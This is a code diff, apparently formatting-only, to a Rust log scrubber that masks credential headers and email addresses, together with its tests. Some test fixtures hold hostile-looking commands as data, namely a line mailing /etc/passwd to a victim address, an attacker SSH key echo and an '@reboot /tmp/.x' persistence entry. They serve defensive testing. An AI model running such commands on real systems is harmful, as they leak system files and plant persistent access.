@@ -38,8 +38,10 @@ const CREDENTIAL_HEADERS: &[&str] =
 fn address() -> &'static Regex {
     static ADDRESS: OnceLock<Regex> = OnceLock::new();
     ADDRESS.get_or_init(|| {
-        Regex::new(r"[A-Za-z0-9.!#$%&'*+/=?^_`{|}~-]+@((?:[A-Za-z0-9](?:[A-Za-z0-9-]*[A-Za-z0-9])?\.)+[A-Za-z]{2,63})\b")
-            .expect("the address pattern compiles")
+        Regex::new(
+            r"[A-Za-z0-9.!#$%&'*+/=?^_`{|}~-]+@((?:[A-Za-z0-9](?:[A-Za-z0-9-]*[A-Za-z0-9])?\.)+[A-Za-z]{2,63})\b",
+        )
+        .expect("the address pattern compiles")
     })
 }
 
@@ -92,7 +94,9 @@ mod tests {
             r#"{"command_text":"mail -s hi *@Victim.example < /etc/passwd"}"#
         );
         assert_eq!(
-            scrubbed(r#"{"headers":{"Host":"h.example","Authorization":"Basic YTpi","COOKIE":"sid=1"},"x":[{"Body_Text":"hi"}]}"#),
+            scrubbed(
+                r#"{"headers":{"Host":"h.example","Authorization":"Basic YTpi","COOKIE":"sid=1"},"x":[{"Body_Text":"hi"}]}"#
+            ),
             r#"{"headers":{"Host":"h.example","Authorization":"*","COOKIE":"*"},"x":[{}]}"#
         );
         for kept in ["ssh root@10.0.0.5", "echo ssh-rsa AAAA attacker@kali", "@reboot /tmp/.x", "a@b"] {
